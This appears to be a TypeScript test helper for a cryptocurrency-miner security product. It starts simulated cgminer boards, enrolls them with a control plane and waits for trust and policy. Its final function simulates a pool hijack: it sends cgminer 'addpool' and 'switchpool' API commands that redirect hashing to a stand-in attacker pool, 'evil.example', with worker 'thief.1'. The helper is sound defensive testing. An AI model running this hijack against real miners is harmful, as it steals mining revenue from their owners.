/**
 * One guarded miner for end-to-end tests: a simulated board (agent/src/platform) with a simulated cgminer
 * (agent/src/sim-miner) answering on a free port, enrolled by the real compiled agent against the real plane,
 * waited until the plane says `trusted` (optional) and the signed policy is applied on the board.
 *
 * Used by the guard suites (test/e2e/guards-*.test.ts, blind-spots, malware-markers, farm alerts), which all need
 * the same board; each suite keeps its own scenario, this keeps the set-up in one place.
 */
import { execFile, spawn } from "node:child_process";
import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { createSimulatedBoard } from "../../agent/src/platform/index.js";
import { SimMiner } from "../../agent/src/sim-miner/index.js";
import type { ApiClient } from "./api.js";
import { loadDeviceKey } from "./device-key.js";
import { AGENT_BINARY, simulatedAgentConfig, startAgent, writeAgentConfig, type ControlPlane, type ManagedProcess } from "./processes.js";
import { tempDir } from "./temp-dir.js";
import { waitFor } from "./wait.js";

export const GUARDED_MODEL = "S19";
export const GUARDED_FIRMWARE = "2024.06.1";

/** A running guarded board: its folders, its simulated miner, the agent process and the plane's device id. */
export interface GuardedBoard {
  dir: string;
  /** The simulated board's root (its `/config`, `/firmware`, `/etc` live below it). */
  root: string;
  stateDir: string;
  configFile: string;
  miner: SimMiner;
  proc: ManagedProcess;
  /** The device id the plane knows the board by. */
  id: string;
}

export interface GuardedBoardOptions {
  /** Written as the board's `config/cgminer.conf` before the miner starts (the default config otherwise). */
  minerConfig?: Record<string, unknown>;
  /** Extra agent configuration merged over the guarded defaults (measure /firmware, guards every 1 s). */
  agentConfig?: Record<string, unknown>;
  /** Register the board's measurements as reference values once per fleet (default true). */
  registerReference?: boolean;
  /** Wait until the plane appraises the board `trusted` (default true). */
  waitTrusted?: boolean;
  /** Per wait, in ms (default 60 000: a loaded 2-core machine runs several planes and agents at once). */
  timeoutMs?: number;
}

/**
 * The guarded boards of one suite against one plane; `close()` stops every agent and miner it started.
 * Reference values (model S19, firmware 2024.06.1) are measured by the compiled agent (`hashward-agent measure`)
 * on the first board and posted once.
 */
export class GuardedFleet {
  private readonly agents: ManagedProcess[] = [];
  private readonly miners: SimMiner[] = [];
  private referenceRegistered = false;

  constructor(
    private readonly plane: ControlPlane,
    private readonly admin: ApiClient,
  ) {}

  /** Waits until the plane has quarantined device `id` (its policy acted on a finding); resolves with the plane's view of it. */
  async quarantined(id: string, timeoutMs = 60_000): Promise<any> {
    return waitFor("device quarantined by policy", async () => {
      const device = await this.admin.get(`/api/v1/devices/${id}`);
      return device.containment === "quarantined" && device;
    }, { timeoutMs });
  }

  /** Starts a board named `name` (also its enrollment token's label); resolves once it is enrolled and set up. */
  async start(name: string, options: GuardedBoardOptions = {}): Promise<GuardedBoard> {
    const wait = { timeoutMs: options.timeoutMs ?? 60_000 };
    const dir = tempDir(name).path;
    const root = join(dir, "board");
    createSimulatedBoard(root, { model: GUARDED_MODEL, firmwareVersion: GUARDED_FIRMWARE });
    if (options.minerConfig) writeFileSync(join(root, "config/cgminer.conf"), `${JSON.stringify(options.minerConfig, null, 2)}\n`);
    const miner = new SimMiner({ root });
    this.miners.push(miner);
    const port = await miner.start();
    const stateDir = join(dir, "state");
    const token = await this.admin.post("/api/v1/enrollment-tokens", { ttlMs: 600_000, maxUses: 1, label: name });
    const configFile = writeAgentConfig(
      dir,
      simulatedAgentConfig(this.plane, { stateDir, boardRoot: root, model: GUARDED_MODEL, firmwareVersion: GUARDED_FIRMWARE }, {
        enrollmentToken: token.token,
        measure: { paths: ["/firmware"] },
        guards: { intervalMs: 1000, minerApi: { host: "127.0.0.1", port } },
        ...options.agentConfig,
      }),
    );
    if ((options.registerReference ?? true) && !this.referenceRegistered) {
      // Async: a blocked event loop would miss the plane closing an idle keep-alive socket and reuse it.
      const { stdout } = await promisify(execFile)(AGENT_BINARY, ["measure", "--config", configFile], { encoding: "utf8" });
      await this.admin.post("/api/v1/reference-values", { model: GUARDED_MODEL, firmwareVersion: GUARDED_FIRMWARE, measurements: JSON.parse(stdout) });
      this.referenceRegistered = true;
    }
    const proc = startAgent(name, configFile);
    this.agents.push(proc);
    const id = await waitFor(`${name}'s key`, () => loadDeviceKey(stateDir)?.deviceId, wait);
    if (options.waitTrusted ?? true) {
      await waitFor(`${name} trusted`, async () => (await this.admin.get(`/api/v1/devices/${id}`).catch(() => undefined))?.appraisal === "trusted", wait);
    }
    await waitFor(`${name} applied the signed policy`, () => existsSync(join(stateDir, "policy.json")), wait);
    return { dir, root, stateDir, configFile, miner, proc, id };
  }

  /** Kills every agent (SIGKILL) and closes every miner this fleet started. */
  async close(): Promise<void> {
    await Promise.all(this.agents.map((a) => a.kill("SIGKILL")));
    await Promise.all(this.miners.map((m) => m.close()));
  }
}

/**
 * The pool-hijack attack from another process on the "LAN": cgminer's `addpool` then `switchpool 1` over the
 * miner's TCP API (JSON form), one request per connection, as the real protocol does. Resolves when the attacker
 * process exits 0; rejects with its exit code otherwise.
 */
export function hijackFromAnotherProcess(port: number, pool = "stratum+tcp://evil.example:3333", worker = "thief.1"): Promise<void> {
  const script = `
    const net = require("node:net");
    const send = (req) => new Promise((resolve, reject) => {
      const s = net.connect(${port}, "127.0.0.1", () => s.end(JSON.stringify(req)));
      s.on("data", () => {}); s.on("close", resolve); s.on("error", reject);
    });
    (async () => {
      await send({ command: "addpool", parameter: ${JSON.stringify(`${pool},${worker},x`)} });
      await send({ command: "switchpool", parameter: "1" });
    })();
  `;
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ["-e", script], { stdio: "ignore" });
    child.on("error", reject);
    child.on("exit", (code) => (code === 0 ? resolve() : reject(new Error(`attacker exited ${code}`))));
  });
}
